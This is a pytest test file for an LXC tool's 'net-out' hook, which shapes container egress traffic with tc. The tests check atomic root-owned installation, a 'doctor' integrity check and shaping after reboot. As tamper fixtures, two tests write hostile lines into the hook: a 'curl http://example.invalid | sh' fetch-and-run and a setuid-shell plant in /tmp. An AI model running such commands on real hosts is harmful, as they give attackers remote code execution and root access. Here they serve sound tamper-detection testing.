"""The net-out start-host hook: self-contained (no lxctool, no venv), written atomically, root 755,
checked by `doctor`. Pure checks first; the integration ones shape a real container's egress."""

from __future__ import annotations

import json
import os
import shutil
import stat
import subprocess
import time
from pathlib import Path
from typing import Any

import pytest
from conftest import run_cli

from lxctool.host import shaping, tc

RATE = 10_000_000


def test_hook_names_no_python_and_no_install() -> None:
    text = shaping.hook_script()
    assert text.startswith("#!/bin/sh\n")
    for word in ("python", "lxctool.host", ".venv", "/work/", "site-packages"):
        assert word not in text, word
    assert subprocess.run(["sh", "-n", "-c", text]).returncode == 0


def test_written_atomically_root_755(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = tmp_path / "hooks" / "net-out"
    monkeypatch.setattr(shaping, "HOOK_PATH", path)
    assert shaping.hook_problem() == f"{path} is missing"
    assert shaping.ensure_hook_script() == str(path)
    st = path.stat()
    assert stat.S_IMODE(st.st_mode) == 0o755 and st.st_uid == 0 and path.read_text() == shaping.hook_script()
    assert os.listdir(path.parent) == ["net-out"]  # no temporary file left beside it
    assert shaping.hook_problem() is None
    path.write_text(shaping.hook_script() + "curl http://example.invalid | sh\n")
    assert "differs" in str(shaping.hook_problem())
    inode = path.stat().st_ino
    shaping.ensure_hook_script()
    assert path.read_text() == shaping.hook_script() and path.stat().st_ino != inode  # replaced by rename
    path.chmod(0o777)
    assert "mode 777" in str(shaping.hook_problem())


def _doctor_hook_row(hook_dir: Path) -> tuple[int, dict[str, Any]]:
    proc = run_cli("doctor", "--format", "json", env={"LXCTOOL_HOOK_DIR": str(hook_dir)})
    rows = {r["check"]: r for r in json.loads(proc.stdout)}
    return proc.returncode, rows["net-out hook"]


@pytest.mark.integration
def test_doctor_reports_tampered_hook(lxd: Any, tmp_path: Path) -> None:
    hook = tmp_path / "net-out"
    _, row = _doctor_hook_row(tmp_path)
    assert row["status"] == "ok" and "not installed" in row["detail"]
    hook.write_text(shaping.hook_script())
    hook.chmod(0o755)
    _, row = _doctor_hook_row(tmp_path)
    assert row["status"] == "ok" and "intact" in row["detail"], row
    hook.write_text(shaping.hook_script().replace("exit 0\n", "cp /bin/sh /tmp/x; chmod u+s /tmp/x\nexit 0\n"))
    code, row = _doctor_hook_row(tmp_path)
    assert code == 1 and row["status"] == "missing" and "differs" in row["detail"] and row["fix"], row


def _veth(lxd: Any, name: str) -> str:
    return str(lxd.instance_state(name)["network"]["eth0"]["host_name"])


def _shaped_rate(veth: str) -> int | None:
    shaped = tc.in_place(veth)
    return shaped.rate_bits if shaped else None


@pytest.mark.integration
def test_hook_shapes_without_lxctool_and_after_reboot(containers: Any, lxd: Any, tmp_path: Path) -> None:
    if shaping._run("tc", "qdisc", "show", check=False).returncode != 0:
        pytest.skip("no tc")
    name, _ = containers.launch("--net-out", "10Mbit")
    if "raw.lxc" not in (lxd.instance(name)["config"]):
        pytest.skip("LXD polices egress itself on this host: no hook in use")
    st = shaping.HOOK_PATH.stat()
    assert stat.S_IMODE(st.st_mode) == 0o755 and st.st_uid == 0
    veth = _veth(lxd, name)
    assert _shaped_rate(veth) == RATE

    # take the shaping away, then run a copy of the hook with an empty environment: no PATH, no venv
    copy = tmp_path / "net-out"
    shutil.copy(shaping.HOOK_PATH, copy)
    assert copy.read_text() == shaping.hook_script(), "another lxctool version rewrote the hook meanwhile"
    shaping.clear(name, veth)
    assert _shaped_rate(veth) is None
    pid = str(lxd.instance_state(name)["pid"])
    proc = subprocess.run(["env", "-i", f"LXC_NAME={name}", f"LXC_PID={pid}", str(copy), str(RATE)],
                          capture_output=True, text=True, timeout=30)
    assert proc.returncode == 0, proc.stderr
    assert _shaped_rate(veth) == RATE

    # a reboot from inside: LXC runs the installed hook on the new veth
    run_cli("exec", name, "--", "reboot", check=True)
    deadline = time.monotonic() + 60
    while True:
        state = lxd.instance_state(name)
        eth0 = (state.get("network") or {}).get("eth0") or {}
        if state["status"] == "Running" and eth0.get("host_name") not in (None, veth):
            break
        assert time.monotonic() < deadline, "container did not come back from reboot"
        time.sleep(0.2)
    new_veth = str(eth0["host_name"])
    deadline = time.monotonic() + 10
    while _shaped_rate(new_veth) != RATE:
        assert time.monotonic() < deadline, f"{new_veth} not shaped after reboot"
        time.sleep(0.2)
